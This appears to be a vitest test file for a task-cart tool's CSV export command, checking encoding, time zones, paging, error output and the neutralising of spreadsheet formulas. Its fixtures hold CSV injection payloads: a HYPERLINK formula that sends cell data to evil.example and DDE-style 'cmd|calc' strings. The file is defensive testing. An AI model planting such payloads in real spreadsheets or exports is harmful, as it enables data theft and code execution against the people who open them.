// `export tasks` run as an admin runs it (its own process, files on disk, exit codes; the runs that
// check no more than a file and the exit code through the in-process entry), on the database of the run: the CSV a CRM imports and Excel opens. BOM, Chinese text, formulas
// neutralised, outcomes and times in the team's zone, only that team's committed tasks of that week.
import { readFileSync, rmSync, writeFileSync, existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importCsv } from '../../src/import/run.ts';
import { EXPORT_COLUMNS, csvLines, exportWeekCsv, weekOf } from '../../src/services/export.ts';
import { commandLine, type CommandLine } from '../support/cli.ts';
import { testDatabase, type TestDatabase } from '../support/db.ts';
import { tempDir } from '../support/temp.ts';

const WEEK = '2026-11-30';
const SQL = /\b(insert|select|values|returning|from|where)\b|Failed query|params:|at .*\.ts:\d+/i;
/** What a spreadsheet runs as a formula when a cell starts with it (with the fullwidth forms Apple Numbers folds). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
  plus: '+1 回电',
  minus: '-2+3 follow',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
};

let t: TestDatabase;
let dir: string;
let run: CommandLine;

async function load(kind: Parameters<typeof importCsv>[1], csv: string) {
  const r = await importCsv(t.db, kind, csv);
  if (r.errors.length) throw new Error(`${kind}: ${JSON.stringify(r.errors[0])}`);
}

const lit = (s: string | null) => (s === null ? 'null' : `'${s.replace(/'/g, "''")}'`);

/** A cart of `agent` for `week` and its task list rows, as a commit writes them (status and done times as given). */
async function cart(
  agent: string,
  week: string,
  status: 'open' | 'committed',
  committedAt: string | null,
  list: Array<{ title: string; day: string; status?: string; doneAt?: string; customer?: string; crm?: string; type?: string; minutes?: number; source?: string }>,
) {
  const [row] = await t.query<{ id: number }>(`insert into carts (agent_id, week_start, status, committed_at) values ($1, $2, $3, $4) returning id`, [agent, week, status, committedAt]);
  for (const task of list) {
    const system = task.crm
      ? `(insert into system_tasks (external_id, agent_id, type_key, title, customer_id, planned_day, effort_minutes) values (${lit(task.crm)}, ${lit(agent)}, '${task.type ?? 'follow_up'}', ${lit(task.title)}, ${lit(task.customer ?? null)}, '${task.day}', ${task.minutes ?? 30}) returning id)`
      : null;
    await t.exec(`${system ? `with s as ${system} ` : ''}insert into tasks (cart_id, agent_id, system_task_id, type_key, title, customer_id, effort_minutes, day, source, status, done_at)
      ${system ? 'select' : 'values ('} ${row!.id}, ${lit(agent)}, ${system ? 's.id' : 'null'}, '${task.type ?? 'follow_up'}', ${lit(task.title)}, ${lit(task.customer ?? null)}, ${task.minutes ?? 30},
        '${task.day}', '${task.source ?? 'system'}', '${task.status ?? 'open'}', ${task.doneAt ? `'${task.doneAt}'::timestamptz` : 'null'}${system ? ' from s' : ')'}`);
  }
  return row!.id;
}

beforeAll(async () => {
  t = await testDatabase();
  dir = tempDir('taskcart-export-');
  await load('teams', 'team,timezone\nShanghai Care,Asia/Shanghai\nBerlin Desk,Europe/Berlin\nBig Team,America/New_York\n');
  await load(
    'people',
    'slack_user_id,name,team,role\nU0WANG,王芳 Wang Fang,Shanghai Care,agent\nU0LI,"Li, Wei",Shanghai Care,agent\nU0ZHOU,周杰 Zhou,Shanghai Care,agent\nU0SUP,Zhao Li,Shanghai Care,supervisor\nU0ANNA,Anna Schmidt,Berlin Desk,agent\n',
  );
  await load('customers', 'customer_id,name,owner\nC1,"上海银行，总部 ""VIP""",U0WANG\nC2,=cmd|calc,U0WANG\n');
  // 王芳 committed the week: one task of each outcome, one carried into a later week, hostile titles.
  await cart('U0WANG', WEEK, 'committed', '2026-11-27T08:00:00Z', [
    { title: '回访客户，确认"续约"\n第二行', day: '2026-11-30', status: 'done', doneAt: '2026-11-30T02:15:07Z', customer: 'C1', crm: 'CRM-1', type: 'renewal_call', minutes: 10 },
    { title: HOSTILE.hyperlink, day: '2026-12-01', status: 'skipped', doneAt: '2026-12-01T09:00:00Z', customer: 'C2', source: 'custom' },
    { title: HOSTILE.plus, day: '2026-12-02' },
    { title: HOSTILE.minus, day: '2026-12-02', status: 'carried_over', crm: 'CRM-4' },
    { title: HOSTILE.at, day: '2026-12-03', status: 'open' },
    { title: HOSTILE.tab, day: '2026-12-04', status: 'open', source: 'recommended' },
  ]);
  // Li Wei has a cart that was never committed (its items are no task list), 周杰 one reopened after a commit (the list stays).
  const open = await cart('U0LI', WEEK, 'open', null, []);
  await t.exec(`insert into cart_items (cart_id, type_key, title, effort_minutes, planned_day, source) values (${open}, 'follow_up', 'Not committed', 30, '2026-12-01', 'custom')`);
  await cart('U0ZHOU', WEEK, 'open', '2026-11-28T01:00:00Z', [{ title: 'Reopened, still listed', day: '2026-12-01', status: 'done', doneAt: '2026-12-01T01:00:00Z' }]);
  // Another week of the same team, and the same week of another team: not in the export.
  await cart('U0WANG', '2026-12-07', 'committed', '2026-12-04T08:00:00Z', [{ title: 'Next week', day: '2026-12-07' }]);
  await cart('U0ANNA', WEEK, 'committed', '2026-11-27T14:00:00Z', [{ title: 'Berlin task', day: '2026-11-30', status: 'done', doneAt: '2026-11-30T10:00:00Z' }]);
  // A large team: 60 agents × 100 committed tasks.
  await t.exec(`
    insert into people (slack_user_id, name, team_id, role)
      select 'UBIG' || lpad(a::text, 3, '0'), '大队 Agent ' || a, (select id from teams where name = 'Big Team'), 'agent' from generate_series(1, 60) a;
    insert into carts (agent_id, week_start, status, committed_at)
      select 'UBIG' || lpad(a::text, 3, '0'), '${WEEK}', 'committed', '2026-11-27T20:00:00Z' from generate_series(1, 60) a;
    insert into tasks (cart_id, agent_id, type_key, title, effort_minutes, day, source, status, done_at)
      select c.id, c.agent_id, 'follow_up', '任务 ' || n || (case when n % 10 = 0 then ' =1+1' else '' end), 5 + n % 30, date '${WEEK}' + (n % 5),
        'system', case when n % 3 = 0 then 'done' else 'open' end, case when n % 3 = 0 then timestamptz '2026-12-01T15:00:00Z' end
      from carts c join people p on p.slack_user_id = c.agent_id and p.slack_user_id like 'UBIG%', generate_series(1, 100) n;`);
  run = await commandLine(t, 'http://127.0.0.1:9');
}, 120_000);

afterAll(async () => {
  await t?.close();
  rmSync(dir, { recursive: true, force: true });
});

type Row = Record<(typeof EXPORT_COLUMNS)[number], string>;

function readCsv(bytes: Buffer): { header: string[]; rows: Row[] } {
  const [header, ...records] = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
  return { header: header!, rows: records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])) as Row) };
}

describe('export tasks', () => {
  it('writes the week\'s committed tasks of the team as UTF-8 CSV with a BOM, CRLF, outcomes and times in the team\'s zone', async () => {
    const out = join(dir, 'shanghai.csv');
    const r = await run.inProcess('export', 'tasks', '--team', 'Shanghai Care', '--week', '2026-12-02', '--out', out);
    expect(r).toMatchObject({ code: 0, stdout: '' });
    expect(r.stderr).toBe(`Wrote 7 tasks of Shanghai Care, week of ${WEEK} (the week holding 2026-12-02), to ${out}\n`);
    const bytes = readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    // Every record ends with CRLF; the one bare LF is the one inside the quoted two-line title.
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(9);
    expect(text.replace(/\r\n/g, '').match(/\n/g)).toHaveLength(1);
    const { header, rows } = readCsv(bytes);
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows.map((x) => x.agent_slack_id)).toEqual(['U0WANG', 'U0WANG', 'U0WANG', 'U0WANG', 'U0WANG', 'U0WANG', 'U0ZHOU']);
    expect(new Set(rows.map((x) => x.week))).toEqual(new Set([WEEK]));

    const [done, skipped, plus, carried, at, tab, reopened] = rows;
    // Chinese text, commas, quotes and a line break come back as they were.
    expect(done).toMatchObject({
      crm_task_id: 'CRM-1',
      day: '2026-11-30',
      agent_name: '王芳 Wang Fang',
      customer_id: 'C1',
      customer_name: '上海银行，总部 "VIP"',
      task_type: 'renewal_call',
      task_type_label: 'Renewal call',
      title: '回访客户，确认"续约"\n第二行',
      minutes: '10',
      priority: 'normal',
      source: 'system',
      outcome: 'done',
      done_at: '2026-11-30T10:15:07+08:00',
      skipped_at: '',
      carried_over: 'no',
      committed_at: '2026-11-27T16:00:00+08:00',
    });
    expect(skipped).toMatchObject({ outcome: 'skipped', done_at: '', skipped_at: '2026-12-01T17:00:00+08:00', source: 'custom', crm_task_id: '' });
    expect(plus).toMatchObject({ outcome: 'open', done_at: '', skipped_at: '', customer_id: '', customer_name: '' });
    // Carried into a later week: not done in this one.
    expect(carried).toMatchObject({ outcome: 'open', carried_over: 'yes', crm_task_id: 'CRM-4' });
    expect(tab).toMatchObject({ source: 'recommended' });
    expect(reopened).toMatchObject({ title: 'Reopened, still listed', outcome: 'done', done_at: '2026-12-01T09:00:00+08:00', committed_at: '2026-11-28T09:00:00+08:00' });
    // Formulas neutralised: the text is kept, behind an apostrophe; no cell starts like a formula.
    expect(skipped!.title).toBe(`'${HOSTILE.hyperlink}`);
    expect(skipped!.customer_name).toBe("'=cmd|calc");
    expect(plus!.title).toBe(`'${HOSTILE.plus}`);
    expect(carried!.title).toBe(`'${HOSTILE.minus}`);
    expect(at!.title).toBe(`'${HOSTILE.at}`);
    expect(tab!.title).toBe(`'${HOSTILE.tab}`);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA_START);
    // Task ids are the task list's, unique.
    expect(new Set(rows.map((x) => x.task_id)).size).toBe(7);
    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);

    // The weekly digest's attachment is the same file.
    const upload = await exportWeekCsv(t.db, { team: 'Shanghai Care', week: '2026-12-04' });
    expect(upload).toMatchObject({ filename: 'tasks-Shanghai-Care-2026-11-30.csv', rows: 7, team: 'Shanghai Care', week: WEEK });
    expect(upload!.bytes.equals(bytes)).toBe(true);

    // Without --out, the same bytes on standard output and nothing on standard error.
    const stdout = await run('export', 'tasks', '--team', 'Shanghai Care', '--week', WEEK);
    expect(stdout).toMatchObject({ code: 0, stderr: '' });
    expect(stdout.stdout).toBe(text);
  }, 60_000);

  it('exports a large team whole, in pages, in one pass', async () => {
    const out = join(dir, 'big.csv');
    const started = Date.now();
    const r = await run('export', 'tasks', '--team', 'Big Team', '--week', WEEK, '--out', out);
    const ms = Date.now() - started;
    expect(r).toMatchObject({ code: 0, stderr: `Wrote 6000 tasks of Big Team, week of ${WEEK}, to ${out}\n` });
    const bytes = readFileSync(out);
    const { rows } = readCsv(bytes);
    expect(rows).toHaveLength(6000);
    // In memory, in pages of another size: the same bytes.
    const upload = await exportWeekCsv(t.db, { team: 'Big Team', week: WEEK, pageSize: 999 });
    expect(upload!.rows).toBe(6000);
    expect(upload!.bytes.equals(bytes)).toBe(true);
    expect(new Set(rows.map((x) => x.task_id)).size).toBe(6000);
    expect(new Set(rows.map((x) => x.agent_slack_id)).size).toBe(60);
    // Ordered by agent, then day.
    const keys = rows.map((x) => `${x.agent_slack_id} ${x.day}`);
    expect(keys).toEqual([...keys].sort());
    expect(rows.filter((x) => x.outcome === 'done')).toHaveLength(60 * 33);
    expect(rows.find((x) => x.outcome === 'done')!.done_at).toBe('2026-12-01T10:00:00-05:00');
    expect(rows.filter((x) => x.title.endsWith('=1+1')).every((x) => !FORMULA_START.test(x.title))).toBe(true);
    // The whole command, process start and database open included, on a loaded 2-core machine.
    expect(ms).toBeLessThan(30_000);
  }, 60_000);

  it('names an unknown team in one line (exit 1) and leaves an existing file as it was', async () => {
    const out = join(dir, 'kept.csv');
    writeFileSync(out, 'old');
    const r = await run.inProcess('export', 'tasks', '--team', 'Nobody', '--week', WEEK, '--out', out);
    expect(r).toMatchObject({ code: 1, stdout: '' });
    expect(r.stderr).toBe('unknown team "Nobody" (teams: "Berlin Desk", "Big Team", "Shanghai Care")\n');
    expect(readFileSync(out, 'utf8')).toBe('old');
    const missing = await run.inProcess('export', 'tasks', '--team', 'Shanghai Care', '--week', WEEK, '--out', join(dir, 'no', 'such', 'f.csv'));
    expect(missing).toMatchObject({ code: 1, stdout: '', stderr: `Failed: cannot write ${join(dir, 'no', 'such', 'f.csv')}: no such folder\n` });
    for (const x of [r, missing]) expect(x.stderr).not.toMatch(SQL);
    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  }, 60_000);

  it('refuses a bad week or missing arguments with its usage (exit 2), and shows --help', async () => {
    const cases: Array<[string[], RegExp]> = [
      [['--team', 'Shanghai Care', '--week', '2026-02-30'], /^--week must be a date as YYYY-MM-DD, any day of the week \(got "2026-02-30"\)\n\nnpm run cli -- export tasks/],
      [['--team', 'Shanghai Care'], /^--week is required\n\nnpm run cli -- export tasks/],
      [['--week', WEEK], /^--team is required\n/],
      [['--team', 'Shanghai Care', '--week', WEEK, 'extra'], /^unexpected extra\n/],
    ];
    for (const [args, message] of cases) {
      const r = await run.inProcess('export', 'tasks', ...args);
      expect(r, args.join(' ')).toMatchObject({ code: 2, stdout: '' });
      expect(r.stderr).toMatch(message);
    }
    const help = await run.inProcess('export', 'tasks', '--help');
    expect(help).toMatchObject({ code: 0, stderr: '' });
    expect(help.stdout).toMatch(/^npm run cli -- export tasks --team "<team>" --week YYYY-MM-DD \[--out FILE\]\n/);
    expect(help.stdout).toContain('docs/export.md');
    const group = await run.inProcess('export');
    expect(group).toMatchObject({ code: 2, stderr: expect.stringMatching(/export takes one of:[\s\S]*export tasks/) });
    expect(existsSync(join(dir, 'no'))).toBe(false);
  }, 120_000);
});

describe('the CSV of the export', () => {
  it('reads any week day as its week', () => {
    expect(weekOf('2026-11-30')).toBe('2026-11-30');
    expect(weekOf('2026-12-06')).toBe('2026-11-30');
    expect(weekOf('2026-12-07')).toBe('2026-12-07');
    expect(weekOf('2027-01-01')).toBe('2026-12-28');
    for (const bad of ['2026-02-29', '2026-1-5', 'today', '', '0000-01-03', '2026-11-30T00:00']) expect(weekOf(bad), bad).toBeNull();
  });

  it('keeps any text through a parse, behind an apostrophe where it would start a formula, and no cell starts like one', () => {
    const piece = fc.oneof(
      { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 6 }) },
      { weight: 2, arbitrary: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', ';', "'", '\uFEFF', '＝', '＠', '客户', ' ') },
    );
    const cell = fc.array(piece, { maxLength: 8 }).map((p) => p.join(''));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 6 }), { minLength: 1, maxLength: 5 }), (records) => {
        const bytes = Buffer.from(`\uFEFF${csvLines(records)}`, 'utf8');
        const back = parse(bytes, { bom: true, relax_column_count: true }) as string[][];
        expect(back).toEqual(records.map((r) => r.map((c) => (FORMULA_START.test(c) ? `'${c}` : c))));
        for (const r of back) for (const c of r) expect(c).not.toMatch(FORMULA_START);
      }),
      { numRuns: 500 },
    );
  });

  it('reads in pages of any size to the same file; null for an unknown team; a header alone for an empty week', async () => {
    const whole = await exportWeekCsv(t.db, { team: 'Shanghai Care', week: WEEK });
    for (const pageSize of [1, 2, 6, 7]) {
      const paged = await exportWeekCsv(t.db, { team: 'Shanghai Care', week: WEEK, pageSize });
      expect(paged!.bytes.equals(whole!.bytes), `${pageSize}`).toBe(true);
    }
    expect(await exportWeekCsv(t.db, { team: 'Nobody', week: WEEK })).toBeNull();
    const empty = await exportWeekCsv(t.db, { team: 'Berlin Desk', week: '2026-12-09' });
    expect(empty).toMatchObject({ rows: 0, filename: 'tasks-Berlin-Desk-2026-12-07.csv' });
    expect(empty!.bytes.toString('utf8')).toBe(`\uFEFF${EXPORT_COLUMNS.join(',')}\r\n`);
  });
});
